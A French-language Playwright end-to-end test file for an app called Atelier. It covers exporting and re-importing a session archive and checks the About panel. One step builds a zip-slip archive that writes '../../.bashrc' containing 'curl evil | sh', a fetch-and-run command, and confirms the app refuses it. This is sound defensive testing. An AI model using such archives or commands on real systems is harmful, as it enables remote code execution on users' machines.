import { promises as fs } from 'node:fs';
import { strToU8, zipSync } from 'fflate';
import { LibraryPage } from './pages/LibraryPage';
import { expect, screenshot, test } from './fixtures';

const atelierFile = (name: string, buffer: Buffer) => ({
  name,
  mimeType: 'application/x-atelier',
  buffer,
});

test('passer une séance à une co-animatrice : archive .atelier exportée puis importée', async ({
  app: page,
}) => {
  const library = new LibraryPage(page);
  let archive: Buffer;

  await test.step('exporter la séance en une archive .atelier', async () => {
    await library.createFromTemplate('World café', 'World café de Liévin', '2025-03-11');
    await page.getByRole('link', { name: 'Compte-rendu' }).click();
    const downloading = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Exporter l’archive' }).click();
    const download = await downloading;
    expect(download.suggestedFilename()).toBe('Séance - World café de Liévin - 2025-03-11.atelier');
    const where = page.getByRole('status').filter({ hasText: 'L’archive' });
    await expect(where).toContainText('est enregistrée ici');
    archive = await fs.readFile((await download.path())!);
    expect(archive.subarray(0, 2).toString()).toBe('PK');
    await screenshot(page, 'archive-export-fr');
  });

  await test.step('l’importer : la séance existe déjà, elle arrive comme une copie', async () => {
    await page.getByRole('link', { name: '← Mes séances' }).click();
    await library.importArchive(atelierFile('World café de Liévin.atelier', archive));
    await expect(page.getByRole('status')).toContainText(
      'Séance importée comme une nouvelle copie, « World café de Liévin (copie importée) »',
    );
    await expect(library.rows()).toHaveCount(2);
    await screenshot(page, 'archive-import-copy-fr');
    await page.getByRole('button', { name: 'Ouvrir' }).click();
    await expect(page.getByLabel('Titre', { exact: true })).toHaveValue(
      'World café de Liévin (copie importée)',
    );
  });

  await test.step('une archive piégée est refusée, rien n’est importé', async () => {
    await page.getByRole('link', { name: '← Mes séances' }).click();
    const trapped = zipSync({
      'session.json': strToU8(
        '{"schemaVersion":1,"id":"piege","title":"Piège","createdAt":"2025-01-01T00:00:00.000Z","modifiedAt":"2025-01-01T00:00:00.000Z"}',
      ),
      '../../.bashrc': strToU8('curl evil | sh'),
    });
    await library.importArchive(atelierFile('piège.atelier', Buffer.from(trapped)));
    await expect(page.getByRole('alert')).toContainText(
      'Cette archive a été refusée par sécurité : « ../../.bashrc » sortirait de l’archive',
    );
    await expect(page.getByRole('alert')).toContainText('Rien n’a été importé.');
    await expect(library.rows()).toHaveCount(2);
    await screenshot(page, 'archive-import-refused-fr');
  });
});

test('À propos : version, où sont les données et le journal, licences des bibliothèques', async ({
  app: page,
  host,
}) => {
  await page.getByRole('link', { name: 'Paramètres' }).click();
  const about = page.getByRole('region', { name: 'À propos' });
  await expect(about).toContainText(/Atelier \d+\.\d+\.\d+ — version navigateur/);
  await expect(about.getByLabel('Séances')).toHaveText(host.library);
  await expect(about.getByLabel('Journal')).toHaveText(/atelier\.log$/);
  await expect(about).toContainText('ni titres, ni noms, ni textes saisis');
  // In the browser build the folders cannot be opened from the page: only shown.
  await expect(about.getByRole('button', { name: 'Ouvrir le dossier des séances' })).toHaveCount(0);
  const react = about.getByRole('group').filter({ has: page.getByText('react', { exact: true }) });
  await expect(react).toContainText(/react \d+\.\d+\.\d+ · MIT/);
  await react.getByText('react', { exact: true }).click();
  await expect(react.getByText(/Permission is hereby granted/)).toBeVisible();
  await screenshot(page, 'settings-about-fr');
});
